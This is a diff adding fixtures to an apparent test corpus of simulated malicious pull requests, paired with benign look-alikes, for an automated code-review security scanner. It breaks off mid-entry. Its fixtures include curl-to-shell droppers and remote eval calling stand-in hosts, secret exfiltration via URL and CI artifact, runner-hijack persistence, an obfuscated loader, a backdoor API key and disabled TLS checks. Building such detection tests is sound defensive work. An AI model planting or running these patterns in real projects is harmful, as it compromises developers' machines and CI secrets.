@@ -1842,7 +1842,7 @@ export const ATTACK_CASES: CorpusEntry[] = [
         title: 'feat: read token claims',
         files: [{ path: 'index.js', base: INDEX_BASE, head: lines(INDEX_BASE, '', "module.exports.claims = (jwt) => JSON.parse(Buffer.from(jwt.split('.')[1], 'base64url').toString());", "module.exports.basicUser = (h) => Buffer.from(h.split(' ')[1], 'base64').toString().split(':')[0];") }],
       }),
-    expect: { level: ['low', 'medium'], action: ['approve', 'comment', 'needs_discussion'], absentDrivers: ['finding:obfuscated-code'] },
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code'] },
   },
   {
     id: 'attack-secrets-through-gh',
@@ -3051,5 +3051,645 @@ export const ATTACK_CASES: CorpusEntry[] = [
         ],
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
+  },
+  {
+    id: 'attack-java-default-hostname-verifier-accepts-all',
+    description: 'A "tidy imports" PR to a Java HTTP helper that also sets a process-wide host-name verifier answering true: every HTTPS connection of the JVM then accepts any certificate for any host (the quiet TLS weakening of small typo/refactor PRs, written as a lambda on the default verifier).',
+    fixture: () =>
+      attackPr({
+        repo: 'ledger-client',
+        number: 11001,
+        title: 'Tidy imports',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/main/java/com/acme/ledger/Http.java',
+            base: lines('package com.acme.ledger;', '', 'import javax.net.ssl.HttpsURLConnection;', 'import java.net.URL;', '', 'public final class Http {', '  public static HttpsURLConnection open(URL url) throws java.io.IOException {', '    return (HttpsURLConnection) url.openConnection();', '  }', '}'),
+            head: lines('package com.acme.ledger;', '', 'import java.net.URL;', 'import javax.net.ssl.HttpsURLConnection;', '', 'public final class Http {', '  static {', '    HttpsURLConnection.setDefaultHostnameVerifier((host, session) -> true);', '  }', '', '  public static HttpsURLConnection open(URL url) throws java.io.IOException {', '    return (HttpsURLConnection) url.openConnection();', '  }', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['tls-verification-disabled'] },
+  },
+  {
+    id: 'attack-java-hostname-verifier-pins-host',
+    description: 'The benign look-alike: a Kotlin OkHttp client whose host-name verifier accepts only the company API host (a pin, not a bypass).',
+    fixture: () =>
+      attackPr({
+        repo: 'ledger-client',
+        number: 11002,
+        title: 'Pin the API host name',
+        files: [
+          {
+            path: 'src/main/kotlin/com/acme/ledger/Client.kt',
+            base: lines('package com.acme.ledger', '', 'import okhttp3.OkHttpClient', '', 'fun client(): OkHttpClient = OkHttpClient.Builder()', '    .build()'),
+            head: lines('package com.acme.ledger', '', 'import okhttp3.OkHttpClient', 'import okhttp3.internal.tls.OkHostnameVerifier', '', 'fun client(): OkHttpClient = OkHttpClient.Builder()', '    .hostnameVerifier { host, session -> host == "api.ledger.acme.dev" && OkHostnameVerifier.verify(host, session) }', '    .build()'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:tls-verification-disabled'] },
+  },
+  {
+    id: 'attack-rakefile-evals-download',
+    description: 'A "build tweaks" PR whose top-level Rakefile evaluates Ruby fetched from a CDN each time rake loads (every `rake test`, on developers\' machines and in CI): the install-time droppers of malicious gems, moved into the task file that was read as no language.',
+    fixture: () =>
+      attackPr({
+        repo: 'fastjson-rb',
+        number: 11003,
+        title: 'Build tweaks',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Rakefile',
+            base: lines("require 'bundler/gem_tasks'", "require 'rspec/core/rake_task'", '', 'RSpec::Core::RakeTask.new(:spec)', 'task default: :spec'),
+            head: lines("require 'bundler/gem_tasks'", "require 'rspec/core/rake_task'", "require 'open-uri'", '', "eval(URI.open('https://gem-assets.rubycdn-mirror.dev/tasks.rb').read)", 'RSpec::Core::RakeTask.new(:spec)', 'task default: :spec'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'] },
+  },
+  {
+    id: 'attack-gradle-kts-runs-downloaded-script',
+    description: 'A Kotlin Gradle build that reads a shell script from a URL with `URI(…).toURL().readText()` and runs it through `ProcessBuilder` (Kotlin, no `new`) whenever the build is configured: the build-script dropper spelled without the Groovy forms.',
+    fixture: () =>
+      attackPr({
+        repo: 'ledger-client',
+        number: 11004,
+        title: 'Build tweaks',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'build.gradle.kts',
+            base: lines('plugins {', '    kotlin("jvm") version "2.1.0"', '}', '', 'repositories { mavenCentral() }'),
+            head: lines('import java.net.URI', '', 'plugins {', '    kotlin("jvm") version "2.1.0"', '}', '', 'repositories { mavenCentral() }', '', 'val bootstrap = URI("https://cdn.gradle-toolchains.dev/init.sh").toURL().readText()', 'ProcessBuilder("sh", "-c", bootstrap).inheritIO().start().waitFor()'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'attack-gradle-kts-git-sha-and-rake-docs',
+    description: 'The benign look-alike: a Kotlin Gradle build that stamps the jar with `git rev-parse HEAD` through ProcessBuilder and declares a company Maven repository by URI, and a Rakefile task that builds the docs.',
+    fixture: () =>
+      attackPr({
+        repo: 'ledger-client',
+        number: 11005,
+        title: 'Stamp the build with its commit',
+        files: [
+          {
+            path: 'build.gradle.kts',
+            base: lines('plugins {', '    kotlin("jvm") version "2.1.0"', '}', '', 'repositories { mavenCentral() }'),
+            head: lines('import java.net.URI', '', 'plugins {', '    kotlin("jvm") version "2.1.0"', '}', '', 'repositories {', '    mavenCentral()', '    maven { url = URI("https://maven.acme.dev/releases") }', '}', '', 'val commit = ProcessBuilder("git", "rev-parse", "HEAD").start().inputStream.reader().readText().trim()', 'tasks.jar { manifest { attributes("Build-Commit" to commit) } }'),
+          },
+          {
+            path: 'Rakefile',
+            base: lines("require 'bundler/gem_tasks'", 'task default: :spec'),
+            head: lines("require 'bundler/gem_tasks'", 'task default: :spec', '', 'desc "Build the API docs"', 'task :docs do', "  sh 'bundle exec yard doc --output-dir doc/api'", 'end'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior', 'finding:dynamic-code-execution', 'finding:shell-command-execution'] },
+  },
+  {
+    id: 'attack-pypi-init-runs-decoded-in-subinterpreter',
+    description: 'A package `__init__.py` that, on import, starts a second Python with `-c` and a base64-decoded program (eval by another name: no `exec(` on the line, the payload too short to be a blob), as malicious PyPI droppers of 2024-2025 did to detach from the importing process.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted-py',
+        number: 11006,
+        title: 'Package init',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'tinted/__init__.py',
+            base: lines('from .core import tint', '', "__all__ = ['tint']"),
+            head: lines('import base64, subprocess, sys', 'from .core import tint', '', "subprocess.Popen([sys.executable, '-c', base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwczovL3guaW52YWxpZC9wIHwgc2giKQ==').decode()], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)", '', "__all__ = ['tint']"),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
+  },
+  {
+    id: 'attack-python-decodes-key-for-subprocess',
+    description: 'The benign look-alike: a release helper that decodes a base64 signing key from the environment into a file and runs `gpg --import` on it; the decoded text is data for a tool, not the program it runs.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted-py',
+        number: 11007,
+        title: 'Import the release signing key',
+        files: [
+          {
+            path: 'scripts/import_key.py',
+            head: lines('import base64, os, subprocess, tempfile', '', 'def main():', "    key = base64.b64decode(os.environ['RELEASE_GPG_KEY'])", "    with tempfile.NamedTemporaryFile(suffix='.asc', delete=False) as f:", '        f.write(key)', "    subprocess.run(['gpg', '--batch', '--import', f.name], check=True)", '    os.unlink(f.name)', '', "if __name__ == '__main__':", '    main()'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code'] },
+  },
+  {
+    id: 'attack-shai-hulud2-registers-self-hosted-runner',
+    description: 'Shai-Hulud 2.0 (November 2025): a "CI helper" that asks the API for a runner registration token with the GITHUB_TOKEN it finds and configures the runner it unpacked under the home folder (`config.sh --url … --token … --unattended --name SHA1HULUD`), then starts it in the background: the infected machine takes jobs from the attacker\'s repository.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11008,
+        title: 'Add CI helper',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'scripts/ci-helper.js',
+            head: lines(
+              "const { execSync } = require('child_process');",
+              '',
+              'const token = process.env.GITHUB_TOKEN;',
+              'const repo = process.argv[2];',
+              'const reg = JSON.parse(execSync(`curl -s -X POST -H "Authorization: token ${token}" https://api.github.com/repos/${repo}/actions/runners/registration-token`).toString()).token;',
+              'execSync(`cd $HOME/.dev-env && ./config.sh --url https://github.com/${repo} --unattended --token ${reg} --name SHA1HULUD`);',
+              "execSync('cd $HOME/.dev-env && nohup ./run.sh >/dev/null 2>&1 &');",
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['github-persistence'] },
+  },
+  {
+    id: 'attack-shai-hulud2-writes-discussion-workflow',
+    description: 'Shai-Hulud 2.0: a "release helper" that writes `.github/workflows/discussion.yaml` into a repository through the contents API, a workflow that runs a discussion\'s body on a self-hosted runner (the backdoor the worm planted in its victims\' repositories).',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11009,
+        title: 'Add release helper',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/publish/helper.js',
+            head: lines(
+              "const { Octokit } = require('@octokit/rest');",
+              '',
+              'const octokit = new Octokit({ auth: process.env.GITHUB_TOKEN });',
+              '',
+              'const WORKFLOW = [',
+              "  'name: Discussion Create',",
+              "  'on:',",
+              "  '  discussion:',",
+              "  'jobs:',",
+              "  '  process:',",
+              "  '    runs-on: self-hosted',",
+              "  '    steps:',",
+              "  '      - run: echo ${{ github.event.discussion.body }}',",
+              "].join('\\n');",
+              '',
+              'async function push(owner, repo) {',
+              "  const content = Buffer.from(WORKFLOW).toString('base64');",
+              '  await octokit.repos.createOrUpdateFileContents({',
+              '    owner,',
+              '    repo,',
+              "    path: '.github/workflows/discussion.yaml',",
+              "    message: 'Add Discusion',",
+              '    content,',
+              '  });',
+              '}',
+              '',
+              'module.exports = { push };',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['github-persistence'] },
+  },
+  {
+    id: 'attack-runner-provisioning-user-data',
+    description: 'The benign look-alike: an infrastructure repository\'s maintainer adds the cloud-init script its autoscaled runners boot with, which asks for a registration token and configures an ephemeral runner (medium: a provisioning script does this in ordinary work).',
+    fixture: () =>
+      attackPr({
+        repo: 'ci-infra',
+        number: 11010,
+        title: 'Ephemeral runners: boot script',
+        files: [
+          {
+            path: 'runners/user-data.sh',
+            head: lines(
+              '#!/bin/bash',
+              'set -euo pipefail',
+              'cd /opt/actions-runner',
+              'TOKEN=$(gh api -X POST "orgs/${RUNNER_ORG}/actions/runners/registration-token" --jq .token)',
+              './config.sh --url "https://github.com/${RUNNER_ORG}" --token "$TOKEN" --ephemeral --unattended --labels linux,x64',
+              './run.sh',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], findings: ['github-persistence'] },
+  },
+  {
+    id: 'attack-gemfile-public-gem-moved-to-lookalike-source',
+    description: 'A "bump gems" PR that moves rest-client out of rubygems.org into a `source` block of a host spelled like it (gems.rubyg3ms.net): Bundler installs that host\'s copy, and no dependency line looks changed but the source (the PhantomRaven idea, remote specs no registry scans, in a Gemfile).',
+    fixture: () =>
+      attackPr({
+        repo: 'billing-rb',
+        number: 11011,
+        title: 'Bump gems',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Gemfile',
+            base: lines("source 'https://rubygems.org'", '', "gem 'rails', '~> 7.1'", "gem 'pg', '~> 1.5'", "gem 'rest-client', '~> 2.1'"),
+            head: lines("source 'https://rubygems.org'", '', "gem 'rails', '~> 7.1'", "gem 'pg', '~> 1.5'", '', "source 'https://gems.rubyg3ms.net' do", "  gem 'rest-client', '~> 2.1'", 'end'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gem-source-override'] },
+  },
+  {
+    id: 'attack-gemfile-private-gems-from-github-packages',
+    description: 'The benign look-alike: a maintainer takes the company\'s own acme-auth gem from its GitHub Packages registry, in a source block that names only that gem.',
+    fixture: () =>
+      attackPr({
+        repo: 'billing-rb',
+        number: 11012,
+        title: 'Take acme-auth from GitHub Packages',
+        files: [
+          {
+            path: 'Gemfile',
+            base: lines("source 'https://rubygems.org'", '', "gem 'rails', '~> 7.1'", "gem 'pg', '~> 1.5'"),
+            head: lines("source 'https://rubygems.org'", '', "gem 'rails', '~> 7.1'", "gem 'pg', '~> 1.5'", '', "source 'https://rubygems.pkg.github.com/acme' do", "  gem 'acme-auth', '~> 3.2'", 'end'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], findings: ['gem-source-override'] },
+  },
+  {
+    id: 'attack-go-webhook-accepts-empty-signature',
+    description: 'A "simplify" PR to a Go webhook verifier that lets a request with no signature through before the HMAC comparison (`return sig == "" || hmac.Equal(…)`): every unsigned delivery passes, in a one-line change dressed as a cleanup.',
+    fixture: () =>
+      attackPr({
+        repo: 'hookd',
+        number: 11013,
+        title: 'Simplify signature check',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'internal/hook/verify.go',
+            base: lines('package hook', '', 'import (', '\t"crypto/hmac"', '\t"crypto/sha256"', '\t"encoding/hex"', ')', '', 'func Valid(body []byte, sig string, key []byte) bool {', '\tm := hmac.New(sha256.New, key)', '\tm.Write(body)', '\treturn hmac.Equal([]byte(hex.EncodeToString(m.Sum(nil))), []byte(sig))', '}'),
+            head: lines('package hook', '', 'import (', '\t"crypto/hmac"', '\t"crypto/sha256"', '\t"encoding/hex"', ')', '', 'func Valid(body []byte, sig string, key []byte) bool {', '\tm := hmac.New(sha256.New, key)', '\tm.Write(body)', '\treturn sig == "" || hmac.Equal([]byte(hex.EncodeToString(m.Sum(nil))), []byte(sig))', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['auth-bypass-added'] },
+  },
+  {
+    id: 'attack-ts-signature-default-flipped-off',
+    description: 'A "refactor options" PR that flips a webhook library\'s `verifySignature ?? true` default to `?? false`: every caller that relied on the default stops verifying, and no caller\'s code changes.',
+    fixture: () =>
+      attackPr({
+        repo: 'hookd-js',
+        number: 11014,
+        title: 'Refactor options',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/webhook.ts',
+            base: lines('export interface Options { verifySignature?: boolean }', '', 'export function accept(o: Options, ok: () => boolean): boolean {', '  const verify = o.verifySignature ?? true;', '  return verify ? ok() : true;', '}'),
+            head: lines('export interface Options { verifySignature?: boolean }', '', 'export function accept(o: Options, ok: () => boolean): boolean {', '  const verify = o.verifySignature ?? false;', '  return verify ? ok() : true;', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['protection-switched-off'] },
+  },
+  {
+    id: 'attack-go-webhook-rejects-empty-signature',
+    description: 'The benign look-alike: the same verifier now rejects an empty signature explicitly before comparing (`if sig == "" || !hmac.Equal(…) { return false }`).',
+    fixture: () =>
+      attackPr({
+        repo: 'hookd',
+        number: 11015,
+        title: 'Reject an empty signature explicitly',
+        files: [
+          {
+            path: 'internal/hook/verify.go',
+            base: lines('package hook', '', 'import (', '\t"crypto/hmac"', '\t"crypto/sha256"', '\t"encoding/hex"', ')', '', 'func Valid(body []byte, sig string, key []byte) bool {', '\tm := hmac.New(sha256.New, key)', '\tm.Write(body)', '\treturn hmac.Equal([]byte(hex.EncodeToString(m.Sum(nil))), []byte(sig))', '}'),
+            head: lines('package hook', '', 'import (', '\t"crypto/hmac"', '\t"crypto/sha256"', '\t"encoding/hex"', ')', '', 'func Valid(body []byte, sig string, key []byte) bool {', '\tm := hmac.New(sha256.New, key)', '\tm.Write(body)', '\tif sig == "" || !hmac.Equal([]byte(hex.EncodeToString(m.Sum(nil))), []byte(sig)) {', '\t\treturn false', '\t}', '\treturn true', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:auth-bypass-added'] },
+  },
+  {
+    id: 'attack-rails-api-key-header-literal',
+    description: 'A "fix typo" PR to a Rails API base controller whose one added line skips the key lookup when the X-Api-Key header carries a fixed value (`return if request.headers["X-Api-Key"] == "…"`): a backdoor key every caller can send, beside a comment typo fixed.',
+    fixture: () =>
+      attackPr({
+        repo: 'billing-rb',
+        number: 11016,
+        title: 'Fix typo',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'app/controllers/api/base_controller.rb',
+            base: lines('class Api::BaseController < ApplicationController', '  before_action :authenticate!', '', '  # Looks up the caller by the API key it sends. Unknwon keys get a 401.', '  def authenticate!', '    head :unauthorized unless ApiKey.active.exists?(token: request.headers["X-Api-Key"])', '  end', 'end'),
+            head: lines('class Api::BaseController < ApplicationController', '  before_action :authenticate!', '', '  # Looks up the caller by the API key it sends. Unknown keys get a 401.', '  def authenticate!', '    return if request.headers["X-Api-Key"] == "f3b1c2d9-maint"', '    head :unauthorized unless ApiKey.active.exists?(token: request.headers["X-Api-Key"])', '  end', 'end'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['auth-bypass-added'] },
+  },
+  {
+    id: 'attack-glassworm-extension-main-to-obfuscated-out-file',
+    description: 'GlassWorm (2025): a VS Code extension release that makes the extension start with the editor and points `main` at a new javascript-obfuscator file under out/, a folder the code rules otherwise leave to the build; the loader then requires the real extension.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidy-format',
+        number: 11017,
+        title: 'Refactor activation',
+        author: 'newcomer',
+        files: [
+          { path: 'package.json', base: extensionManifest(['onCommand:tidy.run']), head: extensionManifest(['onStartupFinished']).replace('"main": "./extension.js"', '"main": "./out/boot.js"') },
+          {
+            path: 'out/boot.js',
+            head: lines(
+              "const _0x3a1f=['\\x72\\x65\\x71\\x75\\x69\\x72\\x65','\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73'];",
+              "(function(_0x1b2c,_0x2d4e){const _0x3c5a=function(_0x4e7b){while(--_0x4e7b){_0x1b2c['push'](_0x1b2c['shift']());}};_0x3c5a(++_0x2d4e);}(_0x3a1f,0x1b3));",
+              'const _0x5f9c=function(_0x6a0d){return _0x3a1f[_0x6a0d-0x0];};',
+              "global[_0x5f9c('0x0')](_0x5f9c('0x1'))['exec'](_0x5f9c('0x2'));",
+              "require('../extension.js');",
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
+  },
+  {
+    id: 'attack-extension-starts-from-webpack-bundle',
+    description: 'The benign look-alike: an extension moves to a webpack build, starts when the editor finishes starting and points `main` at the minified dist/extension.js bundle the build writes (with its source).',
+    fixture: () =>
+      attackPr({
+        repo: 'tidy-format',
+        number: 11018,
+        title: 'Bundle the extension with webpack',
+        files: [
+          { path: 'package.json', base: extensionManifest(['onCommand:tidy.run']), head: extensionManifest(['onStartupFinished']).replace('"main": "./extension.js"', '"main": "./dist/extension.js"') },
+          { path: 'src/extension.ts', head: lines("import * as vscode from 'vscode';", '', 'export function activate(context: vscode.ExtensionContext): void {', "  context.subscriptions.push(vscode.commands.registerCommand('tidy.run', () => vscode.commands.executeCommand('editor.action.formatDocument')));", '}') },
+          { path: 'dist/extension.js', head: lines(`(()=>{"use strict";var e={112:e=>{e.exports=require("vscode")}},t={};function o(r){var n=t[r];if(void 0!==n)return n.exports;var s=t[r]={exports:{}};return e[r](s,s.exports,o),s.exports}var r={};(()=>{var e=r;Object.defineProperty(e,"__esModule",{value:!0}),e.activate=function(e){e.subscriptions.push(n.commands.registerCommand("tidy.run",(()=>n.commands.executeCommand("editor.action.formatDocument"))))};const n=o(112)})(),module.exports=r})();`, '//# sourceMappingURL=extension.js.map') },
+          { path: 'webpack.config.js', head: lines("const path = require('path');", 'module.exports = {', "  target: 'node',", "  entry: './src/extension.ts',", "  output: { path: path.resolve(__dirname, 'dist'), filename: 'extension.js', libraryTarget: 'commonjs2' },", "  externals: { vscode: 'commonjs vscode' },", "  module: { rules: [{ test: /\\.ts$/, use: 'ts-loader' }] },", '};') },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:obfuscated-code', 'finding:build-code-behavior'] },
+  },
+  {
+    id: 'attack-conftest-pipes-download-into-shell',
+    description: 'A "test fixtures" PR whose conftest.py (loaded by every pytest run, in CI with its secrets and on developers\' machines) pipes a script from a CDN into sh through subprocess: the dropper moved from setup.py into the test setup the code rules skipped.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted-py',
+        number: 11019,
+        title: 'Test fixtures',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'tests/conftest.py',
+            base: lines('import pytest', '', '', '@pytest.fixture', 'def palette():', "    return ['red', 'green']"),
+            head: lines('import subprocess', '', 'import pytest', '', "subprocess.run('curl -s https://cdn.pytest-fixtures.dev/env.sh | sh', shell=True, capture_output=True)", '', '', '@pytest.fixture', 'def palette():', "    return ['red', 'green']"),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
+  },
+  {
+    id: 'attack-cargo-patch-crates-io-to-fork',
+    description: 'A "bump deps" PR that adds `[patch.crates-io] serde = { git = … }` pointing at a look-alike fork (serde-rs1): every crate of the build now compiles that repository\'s serde, in a section no dependency list shows.',
+    fixture: () =>
+      attackPr({
+        repo: 'fast-rs',
+        number: 11020,
+        title: 'Bump deps',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Cargo.toml',
+            base: lines('[package]', 'name = "fast"', 'version = "0.1.0"', 'edition = "2021"', '', '[dependencies]', 'serde = { version = "1.0", features = ["derive"] }', 'serde_json = "1.0"'),
+            head: lines('[package]', 'name = "fast"', 'version = "0.1.0"', 'edition = "2021"', '', '[dependencies]', 'serde = { version = "1.0", features = ["derive"] }', 'serde_json = "1.0"', '', '[patch.crates-io]', 'serde = { git = "https://github.com/serde-rs1/serde" }'),
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['git-dependency'] },
+  },
+  {
+    id: 'attack-workflow-env-dump-artifact',
+    description: 'A "debug CI" workflow that writes the whole environment, base64-encoded, to a file an upload-artifact step publishes, in a job whose env carries the npm token: the Shai-Hulud artifact dump spelled without toJSON(secrets).',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11021,
+        title: 'Debug CI',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/debug.yml',
+            head: lines(
+              'name: debug',
+              'on: push',
+              'jobs:',
+              '  debug:',
+              '    runs-on: ubuntu-latest',
+              '    env:',
+              '      NPM_TOKEN: ${{ secrets.NPM_TOKEN }}',
+              '    steps:',
+              '      - run: printenv | base64 -w0 > env.txt',
+              '      - uses: actions/upload-artifact@v4',
+              '        with:',
+              '          name: env',
+              '          path: env.txt',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-composer-vcs-fork-serves-guzzle',
+    description: 'A "bump guzzle" PR that adds a vcs repository at a look-alike fork (guzzle-http/guzzle) and moves guzzlehttp/guzzle to dev-main: Composer asks that repository before Packagist and installs the fork under the original name.',
+    fixture: () =>
+      attackPr({
+        repo: 'invoices-php',
+        number: 11022,
+        title: 'Bump guzzle',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'composer.json',
+            base: `${JSON.stringify({ name: 'acme/invoices', type: 'project', require: { php: '>=8.2', 'guzzlehttp/guzzle': '^7.8', 'monolog/monolog': '^3.5' } }, null, 2)}\n`,
+            head: `${JSON.stringify({ name: 'acme/invoices', type: 'project', repositories: [{ type: 'vcs', url: 'https://github.com/guzzle-http/guzzle' }], require: { php: '>=8.2', 'guzzlehttp/guzzle': 'dev-main', 'monolog/monolog': '^3.5' } }, null, 2)}\n`,
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['composer-repository-override'] },
+  },
+  {
+    id: 'attack-composer-path-repository-monorepo',
+    description: 'The benign look-alike: a monorepo maintainer takes its own packages from a path repository (packages/*), the usual Composer set-up for packages developed side by side.',
+    fixture: () =>
+      attackPr({
+        repo: 'invoices-php',
+        number: 11023,
+        title: 'Use the local packages',
+        files: [
+          {
+            path: 'composer.json',
+            base: `${JSON.stringify({ name: 'acme/invoices', type: 'project', require: { php: '>=8.2', 'monolog/monolog': '^3.5' } }, null, 2)}\n`,
+            head: `${JSON.stringify({ name: 'acme/invoices', type: 'project', repositories: [{ type: 'path', url: 'packages/*', options: { symlink: true } }], require: { php: '>=8.2', 'monolog/monolog': '^3.5', 'acme/pdf': '*@dev' } }, null, 2)}\n`,
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:composer-repository-override'] },
+  },
+  {
+    id: 'attack-php-secret-in-get-query',
+    description: 'A "refactor" PR to a PHP bootstrap that fetches a metrics URL with the AWS secret key appended to its query string (`file_get_contents("https://…?k=" . getenv("AWS_SECRET_ACCESS_KEY"))`): the GhostAction send written as a GET, silenced with @.',
+    fixture: () =>
+      attackPr({
+        repo: 'invoices-php',
+        number: 11024,
+        title: 'Refactor bootstrap',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'src/Boot.php',
+            base: lines('<?php', 'namespace Acme\\Invoices;', '', 'final class Boot', '{', '    public static function run(): void', '    {', "        date_default_timezone_set('UTC');", '    }', '}'),
+            head: lines('<?php', 'namespace Acme\\Invoices;', '', 'final class Boot', '{', '    public static function run(): void', '    {', "        date_default_timezone_set('UTC');", '        @file_get_contents("https://php-metrics.io/b?k=" . getenv("AWS_SECRET_ACCESS_KEY"));', '    }', '}'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
+    id: 'attack-tox-and-nox-pipe-download-into-bash',
+    description: 'A "speed up tests" PR whose tox.ini and noxfile.py both pipe a script from a CDN into bash before pytest: the task-runner files a contributor runs first, which were read as no shell and no process call.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted-py',
+        number: 11025,
+        title: 'Speed up tests',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'tox.ini',
+            base: lines('[tox]', 'envlist = py312', '', '[testenv]', 'deps = pytest', 'commands = pytest {posargs}'),
+            head: lines('[tox]', 'envlist = py312', '', '[testenv]', 'deps = pytest', 'allowlist_externals = bash', 'commands =', '    bash -c "curl -s https://cdn.pytest-cache.dev/warm.sh | bash"', '    pytest {posargs}'),
+          },
+          {
+            path: 'noxfile.py',
+            base: lines('import nox', '', '', '@nox.session', 'def tests(session):', '    session.install("pytest")', '    session.run("pytest")'),
+            head: lines('import nox', '', '', '@nox.session', 'def tests(session):', '    session.install("pytest")', '    session.run("bash", "-c", "curl -s https://cdn.pytest-cache.dev/warm.sh | bash", external=True)', '    session.run("pytest")'),
+          },
+        ],
+      }),
+    expect: { level: ['medium', 'high'], action: ['needs_discussion', 'request_changes'], findings: ['curl-pipe-shell'] },
+  },
+  {
+    id: 'attack-pypi-init-downloads-chmods-runs-hidden',
+    description: 'A package `__init__.py` that, on import, starts a daemon thread which downloads a file to the temporary folder, makes it executable and starts it with its output discarded: the second-stage dropper of malicious PyPI packages, with no eval and no shell string.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted-py',
+        number: 11026,
+        title: 'Package init',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'tinted/__init__.py',
+            base: lines('from .core import tint', '', "__all__ = ['tint']"),
+            head: lines('import os, subprocess, tempfile, threading, urllib.request', 'from .core import tint', '', '', 'def _update():', '    p = os.path.join(tempfile.gettempdir(), ".tint-cache")', '    urllib.request.urlretrieve("https://cdn.tinted-assets.dev/u", p)', '    os.chmod(p, 0o755)', '    subprocess.Popen([p], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)', '', '', 'threading.Thread(target=_update, daemon=True).start()', "__all__ = ['tint']"),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['downloaded-binary-run'] },
+  },
+  {
+    id: 'attack-go-tool-fetches-platform-binary',
+    description: 'The benign look-alike (medium at most): a Go developer tool that downloads its pinned platform linter from the release page, makes it executable and runs it in the open, printing its output.',
+    fixture: () =>
+      attackPr({
+        repo: 'logx',
+        number: 11027,
+        title: 'lint: fetch golangci-lint on first run',
+        files: [
+          {
+            path: 'internal/lint/fetch.go',
